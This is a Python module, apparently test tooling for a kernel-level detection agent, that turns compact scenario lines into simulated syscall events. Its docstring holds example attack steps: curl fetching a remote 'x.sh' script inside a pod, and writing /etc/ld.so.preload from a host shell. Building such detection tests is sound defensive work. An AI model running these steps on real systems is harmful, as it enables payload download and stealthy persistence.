"""The compact kernel scenario form: a few keys saying what a process does, in a pod or on the host, turned into
kernel events.

A kernel line (`{"kernel": {...}}` in a stream, or an item of a test case's `events`):

    {"time": "2024-06-03T10:02:00Z", "pod": "payments/api-6d8f9c7b5d-x2k4l",
     "run": ["/usr/bin/curl", "http://198.51.100.20/x.sh"], "connect": "198.51.100.20:80"}
    {"host": true, "parent": "sshd>bash", "user": "alice", "tty": 34816, "loginuid": 1000,
     "run": ["/usr/bin/tee"], "open": {"path": "/etc/ld.so.preload", "flags": "O_WRONLY|O_CREAT"}}

Where: `pod` (`namespace/name`: the pod's one container, whose main process `sh` is pid 1 inside it; `image`,
`container` (its name) and `container_id` (hex, a prefix of the full id) may describe it) or `host: true`. Above the
process: `parent`, a chain of processes that exist before the scenario, `>`-separated from the top (`sshd>bash`,
`/usr/sbin/httpd>/usr/sbin/php-cgi`, `/usr/bin/dpkg>/bin/sh -c /usr/bin/cat`: each an argv, a bare name living in
/usr/bin), started by init (pid 1, systemd) on the host or by the pod's main process; the chain runs as `user`
(`root` is uid 0, other names get 1000, 1001, ... in order of appearance) with controlling terminal `tty`, audit
`loginuid` and working directory `cwd`, which its children inherit. Ancestors get pids 100, 200, ... in order of
appearance.

What happens: the last process of the chain (or init, or the pod's main process) forks and execs `run` (`clone`,
`execve`; `comm` overrides the name the kernel reports, `exe_layer: upper|lower` says which overlay layer the
executable came from, `memfd_create: NAME` creates the memfd the process then executes as `/proc/self/fd/3`), or
only forks (`fork: true`), or, with neither, acts itself. The acting process then makes the syscalls its keys name
(agent.rule_tests.kernel_calls, in that order); the last one succeeds unless `fails` names the errno it returns
(`"ENXIO"`). The last record happens at `time` (by default 1 ms after the line before), the ones before it 1 ms
apart.

The records are applied to the kernel source's own `KernelState` over a node holding these processes and one
container per pod (with the `io.kubernetes.pod.*` labels a runtime reports), so every field comes from the kernel
source's extractors, exactly as a replayed capture's.
"""

from __future__ import annotations

import errno
import hashlib
import re
from collections.abc import Iterator, Mapping, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import datetime
from typing import Any

from agent.event import Event
from agent.rule_tests.kernel_calls import CALLS, Call, CallError, memfd_create
from sources.kernel.record import SyscallRecord
from sources.kernel.state import Accounts, ContainerMeta, KernelState, ProcessSnapshot, StateObserver, UserEntry

_PLACE_KEYS = frozenset({"pod", "host", "image", "container", "container_id"})
_SESSION_KEYS = ("user", "tty", "loginuid", "cwd")
_PROCESS_KEYS = frozenset({"run", "comm", "fork", "exe_layer", "memfd_create"})
KEYS = frozenset({"time", "parent", "fails", *_PLACE_KEYS, *_SESSION_KEYS, *_PROCESS_KEYS, *CALLS})
DEFAULT_IMAGE = "ghcr.io/acme/app:1.0"
_STEP_NS = 1_000_000
_FIRST_CHILD_PID = 20_000
_ANCESTOR_PID_STEP = 100
_FIRST_UID = 1000
_CLONE_FLAGS = 0x11  # SIGCHLD, as fork(2) passes it
_HEX = re.compile(r"[0-9a-f]{12,64}")


class ScenarioError(ValueError):
    """A kernel line that does not describe a scenario; the message names the key at fault."""


@dataclass(frozen=True)
class Pod:
    """A pod's one container; its main process (`sh`, pid 1 inside the container) runs as `pid` on the node."""

    namespace: str
    name: str
    pid: int = 0
    image: str = DEFAULT_IMAGE
    container: str = ""
    id_prefix: str = ""

    @property
    def container_id(self) -> str:
        """A full 64-hex container id, the same for the same pod in every scenario (starting with `id_prefix`)."""
        derived = hashlib.sha256(f"{self.namespace}/{self.name}".encode()).hexdigest()
        return self.id_prefix + derived[len(self.id_prefix):]

    @property
    def short_id(self) -> str:
        """container.id as the kernel source prints it."""
        return self.container_id[:12]

    def meta(self) -> ContainerMeta:
        return ContainerMeta(self.container_id, name=self.container or f"k8s_app_{self.name}_{self.namespace}_0",
                             image=self.image, privileged=False, start_ns=1, runtime="containerd",
                             labels={"io.kubernetes.pod.namespace": self.namespace,
                                     "io.kubernetes.pod.name": self.name,
                                     "io.kubernetes.container.name": self.container or "app"})


def pod(text: str, pid: int = 0) -> Pod:
    """`namespace/name` as a Pod."""
    namespace, _, name = text.partition("/")
    if not namespace or not name:
        raise ScenarioError(f"pod: expected 'namespace/name', got {text!r}")
    return Pod(namespace, name, pid)


def time_ns(text: str) -> int:
    """An ISO-8601 time (`2024-06-03T10:00:03Z`, fractions allowed) in ns since the epoch."""
    try:
        moment = datetime.fromisoformat(text.replace("Z", "+00:00"))
    except (TypeError, ValueError):
        raise ScenarioError(f"time: expected an ISO 8601 time, got {text!r}") from None
    return int(moment.timestamp()) * 1_000_000_000 + moment.microsecond * 1000


#: When a stream's first line gives no time.
_DEFAULT_START_NS = time_ns("2024-06-03T10:00:00Z")


@dataclass(frozen=True)
class _Session:
    """Where a line's process runs and the processes above it: the key of its ancestors."""

    place: str
    chain: tuple[tuple[str, ...], ...]
    user: str
    tty: int
    loginuid: int
    cwd: str


@dataclass
class _Cast:
    """The processes that exist before the scenario starts: init, each pod's main process, the lines' ancestors;
    and the users they run as."""

    pods: dict[str, Pod] = field(default_factory=dict)
    ancestors: dict[tuple[_Session, int], ProcessSnapshot] = field(default_factory=dict)
    users: dict[str, int] = field(default_factory=lambda: {"root": 0})
    #: What the node answers when the state asks about a process at its exec (`exe_layer`).
    answers: dict[int, ProcessSnapshot] = field(default_factory=dict)

    def init(self) -> ProcessSnapshot:
        return ProcessSnapshot(tid=1, pid=1, ppid=0, comm="systemd", exe="/sbin/init",
                               exepath="/usr/lib/systemd/systemd", cwd="/", sid=1, pgid=1, vpid=1, start_ns=1)

    def main_process(self, where: Pod) -> ProcessSnapshot:
        return ProcessSnapshot(tid=where.pid, pid=where.pid, ppid=1, comm="sh", exe="sh", exepath="/bin/sh",
                               args=["-c", "exec app"], cwd="/", container_id=where.container_id, sid=1,
                               pgid=where.pid, vpid=1, start_ns=1)

    def add_pod(self, line: Mapping[str, Any]) -> None:
        text = line["pod"]
        found = pod(text)
        settings = {"image": line.get("image"), "container": line.get("container"),
                    "id_prefix": line.get("container_id")}
        for key, value in settings.items():
            if value is not None and not isinstance(value, str):
                raise ScenarioError(f"'{'container_id' if key == 'id_prefix' else key}' must be a string")
        prefix = settings["id_prefix"]
        if prefix is not None and not _HEX.fullmatch(prefix):
            raise ScenarioError(f"container_id: expected 12 to 64 lowercase hex digits, got {prefix!r}")
        known = self.pods.get(text)
        if known is None:
            known = self.pods[text] = Pod(found.namespace, found.name, 1000 + 100 * len(self.pods))
        for key, value in settings.items():
            current = getattr(known, key)
            if value is not None and value != current:
                if current not in ("", DEFAULT_IMAGE):
                    raise ScenarioError(f"pod {text}: {key} {value!r} differs from {current!r} given before")
                known = self.pods[text] = _replace_pod(known, key, value)

    def parent(self, line: Mapping[str, Any]) -> ProcessSnapshot:
        """The process that starts the line's process (or acts itself): the chain's last, created on first use."""
        session = _session(line)
        where = self.pods.get(session.place)
        top = self.main_process(where) if where is not None else self.init()
        uid = self.users.setdefault(session.user, _FIRST_UID + len(self.users) - 1)
        for depth, argv in enumerate(session.chain):
            key = (session, depth)
            known = self.ancestors.get(key)
            if known is None:
                pid = self._free_pid()
                known = self.ancestors[key] = ProcessSnapshot(
                    tid=pid, pid=pid, ppid=top.pid, comm=argv[0].rsplit("/", 1)[-1][:15], exe=argv[0],
                    exepath=argv[0] if "/" in argv[0] else f"/usr/bin/{argv[0]}", args=list(argv[1:]),
                    cwd=session.cwd, uid=uid, gid=uid, euid=uid, egid=uid, loginuid=session.loginuid,
                    tty=session.tty, sid=1, pgid=pid, vpid=pid if where is None else depth + 2, start_ns=1,
                    container_id=top.container_id)
            top = known
        return top

    def _free_pid(self) -> int:
        used = {p.pid for p in self.pods.values()} | {p.pid for p in self.ancestors.values()}
        pid = _ANCESTOR_PID_STEP
        while pid in used:
            pid += _ANCESTOR_PID_STEP
        return pid

    def accounts(self) -> Accounts:
        users = {uid: UserEntry(uid, name, "/root" if uid == 0 else f"/home/{name}", "/bin/sh")
                 for name, uid in self.users.items()}
        return Accounts(users, {uid: name for name, uid in self.users.items()})


def _replace_pod(known: Pod, key: str, value: str) -> Pod:
    values = {"image": known.image, "container": known.container, "id_prefix": known.id_prefix, key: value}
    return Pod(known.namespace, known.name, known.pid, **values)


def _session(line: Mapping[str, Any]) -> _Session:
    chain_text = line.get("parent", "")
    if not isinstance(chain_text, str):
        raise ScenarioError("'parent' must be a chain of processes such as 'sshd>bash'")
    chain = tuple(tuple(part.split()) for part in chain_text.split(">")) if chain_text else ()
    if any(not argv for argv in chain):
        raise ScenarioError(f"parent: an empty process in {chain_text!r}")
    given = [key for key in _SESSION_KEYS if key in line]
    if given and not chain:
        raise ScenarioError(f"{', '.join(given)} describe the parent chain: give 'parent' too")
    user, tty, loginuid, cwd = line.get("user", "root"), line.get("tty", 0), line.get("loginuid", -1), \
        line.get("cwd", "/")
    if not isinstance(user, str) or not user:
        raise ScenarioError("'user' must be a user name")
    if not all(isinstance(v, int) and not isinstance(v, bool) for v in (tty, loginuid)):
        raise ScenarioError("'tty' and 'loginuid' must be numbers")
    if not isinstance(cwd, str) or not cwd.startswith("/"):
        raise ScenarioError("'cwd' must be an absolute path")
    return _Session(str(line.get("pod", "")), chain, user, tty, loginuid, cwd)


@dataclass
class ScenarioNode:
    """The node the scenario runs on, as the kernel state's HostView."""

    cast: _Cast
    containers: dict[str, ContainerMeta] = field(init=False)

    def __post_init__(self) -> None:
        self.containers = {p.container_id: p.meta() for p in self.cast.pods.values()}

    def processes(self) -> list[ProcessSnapshot]:
        return [self.cast.init(), *(self.cast.main_process(p) for p in self.cast.pods.values()),
                *self.cast.ancestors.values()]

    def process(self, tid: int) -> ProcessSnapshot | None:
        return self.cast.answers.get(tid)

    def accounts(self, container_id: str, pid: int) -> Accounts:
        return self.cast.accounts()

    def container(self, container_id: str) -> ContainerMeta | None:
        return self.containers.get(container_id)

    def container_of_cgroup(self, cgroup_id: int) -> str | None:
        return None


def scenario_events(lines: Sequence[Mapping[str, Any]], *, hostname: str = "",
                    observer: StateObserver | None = None) -> Iterator[Event]:
    """The kernel events of a run of kernel lines, in order; ScenarioError names a bad line. An `observer` (a
    CaptureWriter) is told everything the state learns, so that the scenario can be written as a capture."""
    cast = _Cast()
    parents = []
    for number, line in enumerate(lines):
        with _numbered(number):
            _check(line)
            if "pod" in line:
                cast.add_pod(line)
    for number, line in enumerate(lines):
        with _numbered(number):
            parents.append(cast.parent(line))
    node = ScenarioNode(cast)
    state = KernelState(node, fetch_containers=False, hostname=hostname, observer=observer)
    try:
        state.seed()
        # The runtime described every pod's container before the first record, as it would have long before
        # an exec session starts.
        for meta in node.containers.values():
            if observer is not None:
                observer.on_container(meta)
            state.learn_container(meta)
        last_ns = _DEFAULT_START_NS
        for number, (line, parent) in enumerate(zip(lines, parents, strict=True)):
            with _numbered(number):
                records = _records(cast, parent, _FIRST_CHILD_PID + number, line, last_ns)
            last_ns = records[-1].ts_ns
            for record in records:
                event = state.apply(record)
                if event is not None:
                    yield event
    finally:
        state.close()


@contextmanager
def _numbered(number: int) -> Iterator[None]:
    """Names line `number` in a ScenarioError (or a CallError) raised for it."""
    try:
        yield
    except (ScenarioError, CallError) as exc:
        raise ScenarioError(f"kernel line {number + 1}: {exc}") from None


def _check(line: Any) -> None:
    if not isinstance(line, Mapping):
        raise ScenarioError("a kernel line is a mapping of keys")
    unknown = set(line) - KEYS
    if unknown:
        raise ScenarioError(f"unknown keys {sorted(unknown)}; known: {sorted(KEYS)}")
    if ("pod" in line) == (line.get("host") is True):
        raise ScenarioError("say where the process runs: 'pod' ('namespace/name') or 'host: true'")
    if "pod" not in line and {"image", "container", "container_id"} & set(line):
        raise ScenarioError("image, container and container_id describe a pod's container: give 'pod'")
    if not isinstance(line.get("pod", ""), str):
        raise ScenarioError("pod: expected 'namespace/name'")
    argv = line.get("run")
    if "run" in line and (not isinstance(argv, list) or not argv or not all(isinstance(a, str) for a in argv)):
        raise ScenarioError("'run' must be a non-empty list of strings (the argv)")
    if "run" in line and line.get("fork"):
        raise ScenarioError("'fork' starts a process that runs no program: give 'run' or 'fork', not both")
    for key in ("comm", "exe_layer", "memfd_create"):
        if key in line and "run" not in line:
            raise ScenarioError(f"'{key}' describes the program 'run' starts: give 'run'")
    if line.get("exe_layer", "upper") not in ("upper", "lower"):
        raise ScenarioError("'exe_layer' must be 'upper' or 'lower'")
    if "fork" in line and line["fork"] is not True:
        raise ScenarioError("'fork' must be true")
    if not any(key in line for key in ("run", "fork", *CALLS)):
        raise ScenarioError(f"nothing happens: give 'run', 'fork' or a syscall ({', '.join(CALLS)})")


def _records(cast: _Cast, parent: ProcessSnapshot, child: int, line: Mapping[str, Any], last_ns: int
             ) -> list[SyscallRecord]:
    uid = parent.uid
    steps: list[tuple[int, str, Call]] = []
    actor, comm = parent.pid, parent.comm
    argv: list[str] | None = line.get("run")
    if argv is not None or line.get("fork"):
        steps.append((actor, comm, Call("clone", {"child_tid": child, "child_pid": child, "flags": _CLONE_FLAGS},
                                        child)))
        actor = child
    if "memfd_create" in line:
        steps.append((actor, comm, memfd_create(line["memfd_create"])))
    if argv is not None:
        comm = str(line.get("comm", argv[0].rsplit("/", 1)[-1]))[:15]
        steps.append((actor, comm, Call("execve", {"filename": argv[0], "argv": list(argv)})))
        if "exe_layer" in line:
            cast.answers[child] = _exec_answer(parent, child, argv, comm, line["exe_layer"])
    made = len(steps)
    for key, build in CALLS.items():
        if key in line:
            steps += [(actor, comm, call) for call in build(line[key])]
    if "fails" in line:
        if len(steps) == made:
            raise ScenarioError(f"'fails' needs a syscall key ({', '.join(CALLS)}) to fail")
        code = getattr(errno, str(line["fails"]), None)
        if not isinstance(code, int):
            raise ScenarioError(f"fails: {line['fails']!r} is not an errno name (ENOENT, EACCES, ...)")
        tid, name, call = steps[-1]
        steps[-1] = (tid, name, Call(call.type, call.args, -code))
    end = time_ns(line["time"]) if "time" in line else last_ns + len(steps) * _STEP_NS
    start = end - len(steps) * _STEP_NS
    return [SyscallRecord(call.type, start + (n + 1) * _STEP_NS, tid, tid, uid, uid, name, call.res, call.args)
            for n, (tid, name, call) in enumerate(steps)]


def _exec_answer(parent: ProcessSnapshot, child: int, argv: list[str], comm: str, layer: str) -> ProcessSnapshot:
    """What /proc says of the new program: the parent's identity, and the overlay layer of its executable."""
    return ProcessSnapshot(tid=child, pid=child, ppid=parent.pid, comm=comm, exe=argv[0], exepath=argv[0],
                           args=argv[1:], cwd=parent.cwd, uid=parent.uid, gid=parent.gid, euid=parent.euid,
                           egid=parent.egid, loginuid=parent.loginuid, tty=parent.tty, sid=1, pgid=child,
                           start_ns=1, container_id=parent.container_id, exe_upper_layer=layer == "upper",
                           exe_lower_layer=layer == "lower")
